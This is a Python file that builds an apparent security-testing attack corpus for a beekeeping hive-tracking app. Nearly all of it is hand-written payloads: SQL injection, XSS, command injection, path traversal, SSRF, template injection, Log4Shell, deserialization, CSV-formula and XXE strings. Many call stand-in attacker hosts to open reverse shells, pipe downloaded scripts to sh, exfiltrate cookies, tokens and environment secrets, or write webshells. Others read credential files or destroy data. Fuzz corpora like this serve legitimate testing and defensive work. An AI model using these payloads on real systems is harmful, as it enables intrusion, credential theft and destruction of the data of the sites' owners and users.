#!/usr/bin/env python3
"""Attack corpus for the beekeeping club / hive-tracking app. Standard library only.
Every literal below was written by hand as "class|||value". Markers inside literals:
\u00b6 = LF, \u240d = CR, \u241b = ESC. A small template per category only joins
hand-written themed prefixes to hand-written payloads (or applies one URL encoding)."""
import json
import os
import random
from urllib.parse import quote

SEED = 12902
PREFIX = "hac9"
MARKS = {"\u00b6": "\n", "\u240d": "\r", "\u241b": "\x1b"}


def block(text):
    out = []
    for ln in text.strip("\n").split("\n"):
        if not ln.strip():
            continue
        cls, val = ln.split("|||", 1)
        for k, v in MARKS.items():
            val = val.replace(k, v)
        out.append((cls.strip(), val))
    return out


LIT = {}

LIT["sqli"] = block(r"""
note-union-select|||Hive 4 queen seen' UNION SELECT username, password_hash FROM members--
note-union-select-mysql|||strong colony' UNION ALL SELECT NULL,CONCAT(email,0x3a,password),NULL FROM users#
hiveid-union-infoschema|||4 UNION SELECT 1,table_name,3 FROM information_schema.tables
hiveid-boolean-true|||7 AND 1=1
hiveid-boolean-false|||7 AND 1=2
note-boolean|||OSR honey' OR '1'='1
note-boolean-comment|||queen cells' OR 1=1-- -
plain-boolean|||' OR 1=1--
plain-login-comment|||admin'--
note-time-mysql-sleep|||varroa drop 12' AND SLEEP(5)-- -
note-time-pg-stacked|||hive 3'; SELECT pg_sleep(10)--
note-time-mssql-waitfor|||swarm Mill Lane'; WAITFOR DELAY '0:0:5'--
note-time-oracle-pipe|||heather' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',7)--
note-time-sqlite-randomblob|||nuc' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--
note-error-mysql-extractvalue|||Buckfast' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))-- -
note-error-mysql-updatexml|||carnica' AND UPDATEXML(1,CONCAT(0x7e,(SELECT user()),0x7e),1)#
note-error-pg-cast|||ivy honey' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)--
note-error-mssql-convert|||lime' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--
note-error-mysql-floor-rand|||queen 2024' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- -
note-error-mysql-gtid|||bramble 16kg' AND GTID_SUBSET(CONCAT(0x7e,(SELECT password FROM members LIMIT 1)),1)-- -
note-error-oracle-inaddr|||H7' AND 1=UTL_INADDR.GET_HOST_NAME((SELECT user FROM dual))--
note-stacked-drop|||hive 12'; DROP TABLE inspections;--
note-stacked-update-role|||bramble'; UPDATE members SET role='admin' WHERE email='bob@example.com';--
note-stacked-insert|||fed 2L syrup'; INSERT INTO members(email,role) VALUES('x@attacker.example','admin');--
note-stacked-mssql-xpcmdshell|||clover'; EXEC xp_cmdshell 'whoami';--
note-stacked-mssql-hex-exec|||'; DECLARE @s varchar(200);SET @s=0x77616974666f722064656c61792027303a303a3527;EXEC(@s)--
note-stacked-mssql-shutdown|||extraction day'; SHUTDOWN WITH NOWAIT;--
note-stacked-pg-copy-program|||hive 9'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh';--
note-stacked-pg-copy-from|||extraction'; CREATE TABLE t(x text); COPY t FROM '/etc/passwd';--
note-oob-mssql-dirtree|||swarm'; EXEC master..xp_dirtree '\\attacker.example\share';--
note-oob-oracle-utlhttp|||heather' UNION SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual--
note-oob-mysql-loadfile-unc|||OSR' UNION SELECT LOAD_FILE(CONCAT('\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\a'))-- -
note-into-outfile-webshell|||comb honey' UNION SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/c.php'-- -
note-sqlite-attach-webshell|||hive-1'; ATTACH DATABASE '/var/www/html/x.php' AS p; CREATE TABLE p.t(d text); INSERT INTO p.t VALUES('<?php system($_GET[0]);?>');--
note-sqlite-master|||swarm' UNION SELECT name, sql FROM sqlite_master--
note-sqlite-concat|||queen ' || (SELECT sqlite_version()) || '
note-pg-concat-setting|||varroa ' || (SELECT current_setting('is_superuser')) || '
note-oracle-concat-banner|||nuc ' || (SELECT banner FROM v$version WHERE ROWNUM=1) || '
note-mssql-plus-concat|||Apiary north'+(SELECT @@version)+'
note-oracle-union-dual|||nuc' UNION SELECT banner, NULL FROM v$version--
sort-orderby-probe|||date ORDER BY 10--
sort-case-blind|||(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a' THEN weight ELSE hive_id END)
sort-if-sleep|||weight,(SELECT IF(SUBSTR(user(),1,1)='r',SLEEP(3),0))
hiveid-comment-as-space|||3/**/UNION/**/SELECT/**/1,2,group_concat(email)/**/FROM/**/members
hiveid-case-mix|||3 uNiOn SeLeCt 1,@@version,3
hiveid-mysql-versioned-comment|||3 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3
hiveid-hex-literal|||-1 UNION SELECT 1,0x61646d696e,3
hiveid-substring-blind|||5 AND SUBSTRING((SELECT password FROM members WHERE id=1),1,1)='$'
hiveid-ascii-blind|||5 AND ASCII(SUBSTR((SELECT user()),1,1))>100
hiveid-benchmark|||1 AND BENCHMARK(5000000,MD5('hive'))
hiveid-subquery-sleep|||12 AND (SELECT 1 FROM (SELECT SLEEP(5))a)
hiveid-rlike-blind|||2 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))
hiveid-pg-stacked-case|||1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--
hiveid-pg-dollar-quote|||1; SELECT $$x$$||pg_sleep(5)--
hiveid-or-true|||-1 OR 1=1
note-blind-exists|||queen' AND EXISTS(SELECT * FROM admins)--
note-double-quote|||Jo" OR "1"="1
note-backslash-escape-bypass|||O\' OR 1=1-- -
note-having|||' HAVING 1=1--
note-insert-values-breakout|||Great honey'), ('x', (SELECT password FROM members LIMIT 1))--
note-like-search|||varroa%' AND 1=(SELECT COUNT(*) FROM members)--
note-boolean-like|||heather' OR 'a' LIKE 'a
note-boolean-between|||H3' OR 2 BETWEEN 1 AND 3--
note-parenthesis-nospace|||swarm'OR(1)=(1)#
note-paren-close|||apiary north') OR ('1'='1
note-double-paren-close|||queen 2024')) OR 1=1--
note-pg-true|||ivy' OR true--
note-elt-sleep|||lime' AND ELT(1,SLEEP(4))--
note-newline-as-space|||hive 4'¶OR¶1=1--
note-union-null-probe|||hive 3' UNION SELECT NULL,NULL,NULL--
note-sqlite-load-extension|||x' UNION SELECT 1,load_extension('\\attacker.example\x\ext')--
note-union-select+urlencode|||hive%27%20UNION%20SELECT%20null%2Cpassword%20FROM%20members--
note-boolean+doubleurlencode|||queen%2527%2520OR%25201%253D1--
note-overlong-utf8-quote|||hive 3%c0%a7 OR 1=1--
note-iis-u-quote|||swarm%u0027 OR 1=1--
note-fullwidth-quote-nfkc|||nuc＇ OR 1=1--
note-tab-as-space+urlencode|||heather%27%09OR%091%3D1--
""")

LIT["xss"] = block(r"""
note-script-tag|||Hive 4: queen seen <script>alert(document.domain)</script>
plain-img-onerror|||<img src=x onerror=alert(1)>
forum-svg-cookie-exfil|||Great photos! <svg onload=fetch('//attacker.example/c?'+document.cookie)>
note-body-onload|||inspection ok <body onload=alert(1)>
forum-iframe-js|||see the swarm <iframe src="javascript:alert(1)"></iframe>
forum-anchor-js|||<a href="javascript:alert(document.cookie)">photos of the swarm</a>
forum-anchor-js-casemix-colon-entity|||<a href="jAvAsCrIpT&colon;alert(1)">varroa chart</a>
forum-anchor-js-decimal-entities|||<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">hive scale data</a>
forum-anchor-js-tab-entity|||<a href="java&#x09;script:alert(1)">queen record</a>
note-details-ontoggle|||Q+ E+ L+ <details open ontoggle=alert(1)>
note-input-autofocus|||stores ok <input autofocus onfocus=alert(1)>
forum-video-source-onerror|||my bees bearding <video><source onerror="alert(1)"></video>
forum-audio-onerror|||queenless roar recording <audio src=x onerror=alert(1)>
forum-marquee-onstart|||<marquee onstart=alert(1)>SWARM SEASON</marquee>
listing-object-data-base64|||Nuc for sale <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
listing-embed-js|||Smoker £20 <embed src="javascript:alert(1)">
note-mxss-math-mglyph|||<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
forum-svg-animate-onbegin|||<svg><animate onbegin=alert(1) attributeName=x dur=1s>
forum-svg-animate-href|||<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click for hive map</text></a></svg>
attr-breakout-event|||Hive 3" onmouseover="alert(1)
attr-breakout-script|||Top Field"><script>alert(1)</script>
attr-single-breakout-img|||Jo's apiary'><img src=x onerror=alert(1)>
textarea-breakout|||notes</textarea><script>alert(1)</script>
title-breakout|||Swarm 2024</title><svg onload=alert(1)>
js-string-breakout|||hive3";alert(1);//
js-single-string-breakout|||queen';alert(document.cookie);//
script-block-breakout|||</script><script>alert(1)</script>
filter-strip-nested|||<scr<script>ipt>alert(1)</scr</script>ipt>
tag-case-mix|||Mite count 4/day <ScRiPt>alert(1)</sCrIpT>
handler-decimal-entities|||<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>
handler-js-unicode-escape|||<img src=x onerror="\u0061lert(1)">
svg-eval-atob|||<svg/onload=eval(atob('YWxlcnQoMSk='))>
img-fromcharcode|||honey jar label <img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>
img-template-literal-call|||<img src=x onerror=alert`1`>
svg-bracket-concat|||<svg onload=top[`al`+`ert`](1)>
img-window-concat|||<img src=x:x onerror=window['ale'+'rt'](1)>
script+urlencode|||%3Cscript%3Ealert(1)%3C/script%3E
script+doubleurlencode|||%253Cscript%253Ealert(1)%253C%252Fscript%253E
script-fullwidth-nfkc|||＜script＞alert(1)＜/script＞
js-sink-unicode-escapes|||\u003cimg src=x onerror=alert(1)\u003e
iis-u-encoded-script|||%u003Cscript%u003Ealert(1)%u003C/script%u003E
markdown-link-js|||Swarm photos here: [click](javascript:alert(document.cookie))
markdown-image-attr-breakout|||![hive 4](x" onerror="alert(1))
style-import-external|||<style>@import 'http://attacker.example/x.css';</style>
meta-refresh-redirect|||Moved apiary <meta http-equiv="refresh" content="0;url=https://attacker.example/login">
base-href-hijack|||<base href="https://attacker.example/">
form-credential-phish|||Session expired <form action="https://attacker.example/steal"><input name=password type=password placeholder="Re-enter password"><button>Login</button></form>
iframe-srcdoc-entities|||<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
svg-script-entities|||<svg><script>alert&#40;1&#41;</script></svg>
custom-tag-onclick|||<x onclick=alert(1)>click the queen</x>
css-expression-legacy|||<div style="width:expression(alert(1))">brood chart</div>
angularjs-csti|||Hive {{constructor.constructor('alert(1)')()}}
vue-csti|||{{_c.constructor('alert(1)')()}}
img-dynamic-import|||<img src=1 onerror=import('//attacker.example/x.js')>
script-src-external|||Great honey! <script src=//attacker.example/x.js></script>
script-src-data|||<script src=data:,alert(1)></script>
img-cookie-beacon|||<img src=x onerror=this.src='//attacker.example/?c='+document.cookie>
body-onpageshow|||<body onpageshow=alert(1)>
select-autofocus|||<select autofocus onfocus=alert(1)></select>
img-unclosed|||Hive 9 weak <img src=x onerror=alert(1)//
svg-unclosed|||<svg onload=alert(1)//
img-slash-separators|||<img/src/onerror=alert(1)>
comment-confusion|||<!--><img src=x onerror=alert(1)>-->
mxss-noscript|||<noscript><p title="</noscript><img src=x onerror=alert(1)>">
url-field-javascript|||javascript:alert(document.domain)
url-field-data-html|||data:text/html,<script>alert(1)</script>
anchor-leading-space-js|||<a href="  javascript:alert(1)">my apiary</a>
iframe-fullpage-phish|||<iframe src=//attacker.example/phish width=100% height=100%></iframe>
math-xlink-js|||<math><a xlink:href="javascript:alert(1)">click</a></math>
img-token-exfil|||<img src=x onerror=fetch('https://attacker.example/',{method:'POST',body:localStorage.getItem('token')})>
svg-foreignobject-iframe|||<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>
entity-encoded-double-decode|||&lt;img src=x onerror=alert(1)&gt;
numeric-entity-script-double-decode|||&#60;script&#62;alert(1)&#60;/script&#62;
""")

LIT["cmdi"] = block(r"""
export-filename-semicolon|||hive3.csv; cat /etc/passwd
sensor-id-and|||scale-02 && id
sensor-id-pipe-nc|||scale-02 | nc attacker.example 4444 -e /bin/sh
sensor-id-or-curl-sh|||H3 || curl http://attacker.example/s.sh | sh
plain-dollar-paren|||$(id)
plain-backtick|||`whoami`
export-filename-subshell|||hive_export_$(curl -s attacker.example/x|sh).csv
photo-name-wget-bash|||photo.jpg;wget -qO- http://203.0.113.7/b|bash
export-filename-newline+urlencode|||2024-06.csv%0aid
export-filename-newline|||2024-06.csv¶id
ifs-space-bypass|||hive3;${IFS}cat${IFS}/etc/passwd
ifs-short-bypass|||H3;cat$IFS/etc/shadow
brace-expansion|||H4;{cat,/etc/passwd}
backslash-obfuscation|||a;c\at /e\tc/pa\ssw\d
glob-wildcards|||hive;/???/??t /???/p??s??
quote-splitting|||hive7;cat /e'tc'/pa"ss"wd
base64-pipe-sh|||scale;echo aWQ=|base64 -d|sh
bash-dev-tcp-revshell|||H9;bash -i >& /dev/tcp/203.0.113.5/443 0>&1
python-revshell|||hive2;python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.9",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
perl-system|||queen.jpg;perl -e 'system("id")'
php-cli-system|||label.pdf;php -r 'system("id");'
rm-rf|||old_photos;rm -rf /var/www/uploads/*
pipe-sleep|||scale-02 | sleep 10
ping-delay|||H1 & ping -c 10 127.0.0.1 &
dns-exfil-nslookup|||H5;nslookup $(whoami).attacker.example
curl-post-passwd|||hive.csv;curl -d @/etc/passwd http://attacker.example/up
tar-argument-injection|||--checkpoint=1 --checkpoint-action=exec=sh shell.sh
curl-argument-injection-output|||-o /var/www/html/s.php http://attacker.example/s.txt
wget-argument-injection-postfile|||--post-file=/etc/passwd http://attacker.example/
git-argument-upload-pack|||--upload-pack=touch /tmp/pwned
git-argument-config-sshcommand|||-c core.sshCommand='sh -c id' origin
ssh-argument-proxycommand|||-oProxyCommand=curl attacker.example/x|sh gateway
find-argument-exec|||hive3 -exec sh -c id ;
rsync-argument-e|||-e 'sh -c id' backup:/hives
zip-argument-unzip-command|||hive_photos.zip -T --unzip-command='sh -c id'
sendmail-argument-logfile|||bob@example.com -X/var/www/html/log.php -OQueueDirectory=/tmp
imagemagick-legacy-pipe||||id
windows-type-winini|||hive3.csv & type C:\Windows\win.ini
powershell-iex-download|||H3 | powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')"
powershell-encoded|||scale & powershell -enc dwBoAG8AYQBtAGkA
windows-certutil-download|||H4 & certutil -urlcache -split -f http://attacker.example/x.exe %TEMP%\x.exe & %TEMP%\x.exe
windows-net-user-add|||H7 | net user support FakePass123! /add
windows-dir|||hive2 && dir C:\Users
windows-cmd-c|||queen; cmd /c whoami
windows-caret-obfuscation|||H8 &w^h^o^a^m^i
powershell-webrequest-exfil|||H3 | Invoke-WebRequest -Uri http://attacker.example -Method POST -Body (Get-Content C:\inetpub\wwwroot\web.config)
windows-ping-delay|||scale-01 & ping -n 5 127.0.0.1
url-newline-cat+urlencode|||scale%0a/bin/cat%20/etc/passwd
printf-hex|||H2;$(printf '\x69\x64')
backtick-base64-ifs|||`echo${IFS}aWQ=|base64${IFS}-d|sh`
here-string|||hive6;sh<<<id
awk-system|||H6;awk 'BEGIN{system("id")}'
or-comment|||scale-03 || id #
single-quote-context|||Jo's hive';id;'
double-quote-context|||Top Field";id;"
redirect-read|||hive;echo $(</etc/passwd)
backtick-curl|||H1;`curl attacker.example`
ls-home|||export;ls -la /home
env-exfil|||H3;env | curl -X POST --data-binary @- http://attacker.example/env
crontab-persist|||H4;echo '* * * * * sh -i >& /dev/tcp/203.0.113.5/8080 0>&1' | crontab -
kill-all|||H5;kill -9 -1
shutdown|||hive;shutdown -h now
nc-bind-shell|||H2;nc -lvp 4444 -e /bin/bash
mkfifo-revshell|||H9;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f
sleep-ifs|||H1;sleep${IFS}5
""")

LIT["traversal"] = block(r"""
plain-dotdot-passwd|||../../../../etc/passwd
plain-windows-backslash|||..\..\..\windows\win.ini
photo-path-dotdot|||photos/../../../../etc/shadow
export-path-environ|||exports/2024/../../../../proc/self/environ
nested-strip-bypass|||....//....//....//etc/passwd
slash-urlencode|||..%2f..%2f..%2fetc%2fpasswd
all-urlencode|||%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
double-urlencode|||%252e%252e%252f%252e%252e%252fetc%252fpasswd
overlong-utf8-slash|||..%c0%af..%c0%af..%c0%afetc/passwd
overlong-utf8-backslash|||..%c1%9c..%c1%9c..%c1%9cboot.ini
iis-u-slash|||..%u2215..%u2215etc%u2215passwd
backslash-urlencode|||..%5c..%5c..%5cwindows%5cwin.ini
absolute-unix|||/etc/passwd
absolute-windows|||C:\Windows\System32\drivers\etc\hosts
unc-path|||\\203.0.113.7\share\hive.csv
app-env-file|||../../../../var/www/app/.env
config-yaml|||labels/../../config/database.yml
tomcat-semicolon|||..;/..;/WEB-INF/web.xml
double-encoded-web-inf|||/static/..%252f..%252fWEB-INF/web.xml
null-byte-extension|||../../../../etc/passwd%00.jpg
hive-file-ssh-key|||hive3.csv/../../../../root/.ssh/id_rsa
bash-history|||../../../../home/beekeeper/.bash_history
dot-triple-strip-bypass|||..././..././..././etc/passwd
mixed-slash|||..\/..\/..\/etc/passwd
proc-cmdline|||/proc/self/cmdline
log-file-lfi|||../../../../var/log/nginx/access.log
php-filter-wrapper|||php://filter/convert.base64-encode/resource=../config.php
zip-wrapper|||zip://uploads/photo.jpg%23shell.php
deep-dotdot|||../../../../../../../../../../etc/hosts
fullwidth-dots-nfkc|||．．/．．/．．/etc/passwd
dot-urlencode|||%2e%2e/%2e%2e/%2e%2e/etc/passwd
half-dot-urlencode|||.%2e/.%2e/.%2e/etc/passwd
double-encoded-backslash|||..%255c..%255cwindows%255cwin.ini
windows-sam|||../../../../windows/system32/config/SAM
iis-webconfig|||..\..\..\inetpub\wwwroot\web.config
leading-slash-backslash|||/..\..\..\boot.ini
zip-slip-entry|||hive_photos/../../../../var/www/html/shell.php
git-config|||../../../.git/config
absolute-prefix-escape|||/app/uploads/../../etc/passwd
template-name-group|||label-templates/../../../../etc/group
overlong-dots|||%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
overlong-3byte-slash|||..%e0%80%af..%e0%80%af..%e0%80%afetc/passwd
leading-encoded-dots|||/%2e%2e/%2e%2e/%2e%2e/etc/passwd
proc-1-environ|||label-templates/../../../../proc/1/environ
""")

LIT["ssrf"] = block(r"""
aws-metadata-creds|||http://169.254.169.254/latest/meta-data/iam/security-credentials/
gcp-metadata-token|||http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
azure-metadata|||http://169.254.169.254/metadata/instance?api-version=2021-02-01
alibaba-metadata|||http://100.100.100.200/latest/meta-data/
ecs-task-creds|||http://169.254.170.2/v2/credentials/
openstack-metadata|||http://169.254.169.254/openstack/latest/meta_data.json
loopback-admin|||http://127.0.0.1:8080/admin
gopher-redis-flush|||gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A
dict-memcached|||dict://127.0.0.1:11211/stats
file-scheme|||file:///etc/passwd
decimal-ip-loopback|||http://2130706433/
hex-ip-loopback|||http://0x7f000001/
octal-ip-loopback|||http://0177.0.0.1/
short-ip-loopback|||http://127.1/
zero-ip|||http://0/
ipv6-loopback|||http://[::1]:8080/
ipv6-mapped-metadata|||http://[::ffff:169.254.169.254]/latest/meta-data/
ipv6-full-mapped-loopback|||http://[0:0:0:0:0:ffff:7f00:1]/
dns-rebind-attacker-domain|||http://metadata.attacker.example/latest/meta-data/
userinfo-confusion|||http://attacker.example@169.254.169.254/latest/meta-data/
fragment-confusion|||http://127.0.0.1:6379#@attacker.example/
port-scan-ssh|||http://127.0.0.1:22/
elasticsearch-internal|||http://10.0.0.5:9200/_cat/indices
router-internal|||http://192.168.1.1/cgi-bin/config.exp
docker-api|||http://172.17.0.1:2375/containers/json
kubernetes-secrets|||https://kubernetes.default.svc/api/v1/namespaces/default/secrets
consul-kv|||http://consul.service.consul:8500/v1/kv/?recurse
etcd-keys|||http://127.0.0.1:2379/v2/keys/?recursive=true
internal-service-name|||http://internal-api:8080/admin/users
enclosed-alphanumerics|||http://①②⑦.⓪.⓪.①/
all-zeros|||http://0.0.0.0:8080/
octal-whole-loopback|||http://017700000001/
zero-padded-loopback|||http://127.000.000.001/
open-redirect-chain|||https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/
redirect-to-file|||http://203.0.113.10/302.php?url=file:///etc/passwd
java-jar-scheme|||jar:http://attacker.example/x.jar!/
java-netdoc|||netdoc:///etc/passwd
tftp-scheme|||tftp://198.51.100.3/hive.cfg
ipv6-ula|||http://[fd00::1]/
octal-metadata|||http://0251.0376.0251.0376/latest/meta-data/
decimal-metadata|||http://2852039166/latest/meta-data/
hex-metadata|||http://0xa9fea9fe/latest/meta-data/
photo-url-userdata|||http://169.254.169.254/latest/user-data#hive3.jpg
actuator-env|||http://127.0.0.1:8080/actuator/env
""")

LIT["code"] = block(r"""
jinja2-cycler-popen|||Label for {{ cycler.__init__.__globals__.os.popen('id').read() }}
jinja2-self-builtins|||Hive {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}
jinja2-config-leak|||Honey from {{ config.items() }}
jinja2-subclasses|||{{ ''.__class__.__mro__[1].__subclasses__() }}
jinja2-attr-hex-bypass|||{{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')|attr('popen')('id')|attr('read')() }}
jinja2-for-warning|||{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}
jinja2-lipsum|||Swarm report {{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}
twig-filter-system|||Jar label {{ ['id']|filter('system') }}
twig-undefined-filter|||{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
twig-map-system|||{{ ['cat /etc/passwd']|map('system')|join }}
freemarker-execute-assign|||<#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }
freemarker-execute-inline|||Queen ${"freemarker.template.utility.Execute"?new()("id")}
velocity-runtime|||#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()
thymeleaf-preprocess|||__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x
spel-hash-runtime|||Hive #{T(java.lang.Runtime).getRuntime().exec('id')}
spel-dollar-array|||${T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','curl attacker.example|sh'})}
el-reflection|||${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}
ognl-runtime|||%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}
ognl-struts-memberaccess|||%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
ognl-dollar-static|||${@java.lang.Runtime@getRuntime().exec("id")}
erb-backtick|||Jar label <%= `id` %>
erb-system|||<%= system('cat /etc/passwd') %>
erb-file-read|||Honey <%= File.open('/etc/passwd').read %>
smarty-system|||Apiary {system('id')}
smarty2-php-tag|||{php}echo `id`;{/php}
mako-import|||${__import__('os').popen('id').read()}
mako-block|||<% import os; x=os.popen('id').read() %>${x}
tornado-import|||{% import os %}{{ os.popen('id').read() }}
django-debug-tag|||Newsletter {% debug %}
handlebars-constructor-rce|||{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require('child_process').execSync('id');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}
pug-interpolation|||#{global.process.mainModule.require('child_process').execSync('id')}
ejs-output|||Label <%= global.process.mainModule.require('child_process').execSync('id') %>
nunjucks-range-constructor|||{{ range.constructor("return global.process.mainModule.require('child_process').execSync('id')")() }}
razor-process-start|||@System.Diagnostics.Process.Start("cmd.exe","/c whoami")
groovy-gstring-execute|||${"id".execute().text}
python-eval-import|||__import__('os').system('id')
python-eval-subprocess|||__import__('subprocess').check_output(['cat','/etc/passwd'])
node-eval-child-process|||require('child_process').exec('curl attacker.example|sh')
node-eval-breakout-write|||');require('fs').writeFileSync('/tmp/x','y');//
node-eval-dos|||1;process.kill(process.pid)
php-eval-breakout|||';system($_GET['c']);//
php-eval-phpinfo|||phpinfo();
ruby-eval-system|||eval('system("id")')
log4shell-ldap|||Swarm at ${jndi:ldap://attacker.example:1389/a}
log4shell-rmi|||${jndi:rmi://203.0.113.9:1099/Exploit}
log4shell-lower-obfuscation|||Hive 4 ${${lower:j}ndi:${lower:l}dap://attacker.example/x}
log4shell-default-value-obfuscation|||${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/z}
log4shell-dns-env-exfil|||${jndi:dns://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}
log4shell-hostname|||${jndi:ldap://${hostName}.attacker.example/a}
log4shell-env-nan|||${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/b}
log4shell+urlencode|||%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D
proto-pollution-json|||{"hive":"H3","__proto__":{"isAdmin":true}}
proto-pollution-constructor|||{"constructor":{"prototype":{"role":"admin"}}}
proto-pollution-query|||__proto__[isAdmin]=true
proto-pollution-ejs-gadget|||{"__proto__":{"outputFunctionName":"x;process.mainModule.require('child_process').execSync('id');x"}}
csv-dde-cmd|||=cmd|' /C calc'!A0
csv-hyperlink-exfil|||=HYPERLINK("http://attacker.example/?d="&A1,"Click for hive data")
csv-at-sum-dde|||@SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0
csv-minus-dde|||-2+3+cmd|' /C calc'!A0
csv-webservice|||=WEBSERVICE("http://attacker.example/?"&A2)
csv-importxml-sheets|||=IMPORTXML(CONCAT("http://attacker.example/?v=",A2),"//a")
xxe-file-entity|||<?xml version="1.0"?><!DOCTYPE h [<!ENTITY x SYSTEM "file:///etc/passwd">]><hive><note>&x;</note></hive>
xxe-parameter-dtd|||<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><d/>
xinclude-text|||<hive xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></hive>
xxe-svg-upload|||<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>
xxe-entity-expansion|||<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><l>&d;</l>
xxe-ssrf-metadata|||<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><r>&x;</r>
yaml-python-apply|||!!python/object/apply:os.system ["id"]
yaml-python-new-subprocess|||!!python/object/new:subprocess.check_output [["cat","/etc/passwd"]]
yaml-snakeyaml-scriptengine|||!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/x.jar"]]]]
pickle-protocol0-system|||cos¶system¶(S'id'¶tR.
pickle-protocol0-posix-curl|||cposix¶system¶(S'curl attacker.example|sh'¶tR.
jsonpickle-reduce|||{"py/reduce":[{"py/function":"os.system"},{"py/tuple":["id"]}]}
fastjson-jdbcrowset|||{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.9:1099/Exploit","autoCommit":true}
jackson-polymorphic-jdbcrowset|||["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://attacker.example:1389/Exploit","autoCommit":true}]
dotnet-jsonnet-objectdataprovider|||{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
php-unserialize-laravel|||O:40:"Illuminate\Broadcasting\PendingBroadcast":2:{s:9:"%00*%00events";O:25:"Illuminate\Bus\Dispatcher":1:{s:16:"%00*%00queueResolver";s:6:"system";}s:8:"%00*%00event";O:38:"Illuminate\Broadcasting\BroadcastEvent":1:{s:10:"connection";s:2:"id";}}
php-unserialize-app-object|||O:12:"HiveExporter":1:{s:4:"path";s:23:"/var/www/html/shell.php";}
php-phar-wrapper|||phar://uploads/hive_photo.jpg/x.txt
